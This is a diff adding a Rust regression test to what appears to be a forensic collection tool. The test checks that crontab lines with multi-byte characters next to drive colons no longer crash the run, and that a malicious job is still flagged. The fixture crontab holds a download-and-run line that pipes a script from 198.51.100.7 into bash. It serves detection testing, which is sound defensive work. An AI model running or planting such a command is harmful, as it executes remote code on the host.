@@ -154,3 +154,45 @@ fn a_bad_rule_file_is_refused_with_file_and_line() {
             || std::fs::read_dir(dir.path().join("out")).unwrap().count() == 0
     );
 }
+
+/// The crash once reported: a command-line argument with a multi-byte character just before
+/// `:\` made path detection slice inside a character and the whole run die with no archive.
+/// Now the same crontab yields a complete archive, and the malicious line next to it is still
+/// found.
+#[test]
+fn a_multibyte_argument_next_to_a_drive_colon_still_yields_an_archive_with_findings() {
+    let root = RootBuilder::new();
+    root.write("etc/hostname", b"crashhost\n");
+    root.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
+    root.write(
+        "etc/crontab",
+        "* * * * * root /usr/bin/x /é:\\x\n\
+         */5 * * * * root /usr/bin/x 中:\\é C:\\é\\\n\
+         */5 * * * * root curl -s http://198.51.100.7/a.sh | bash\n"
+            .as_bytes(),
+    );
+    let out = tempfile::tempdir().unwrap();
+    let (run, a) = collect(out.path(), &["--root", root.path().to_str().unwrap()]);
+    assert!(
+        run.code == 0 || run.code == 2,
+        "exit {}: {}",
+        run.code,
+        run.stderr
+    );
+    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
+    let mut a = a.unwrap_or_else(|| panic!("no archive: {}", run.stderr));
+    let m = a.manifest();
+    for stage in m["stages"].as_array().unwrap() {
+        assert_ne!(stage["status"], "failed", "{stage}");
+    }
+    let jobs = a.records("scheduled_tasks");
+    assert!(
+        jobs.iter().any(|j| j.to_string().contains("/é:\\\\x")),
+        "the hostile line is a record"
+    );
+    let fs = findings(&mut a);
+    assert!(
+        fs.iter().any(|f| f.to_string().contains("198.51.100.7")),
+        "the download-and-run line is a finding: {fs:?}"
+    );
+}
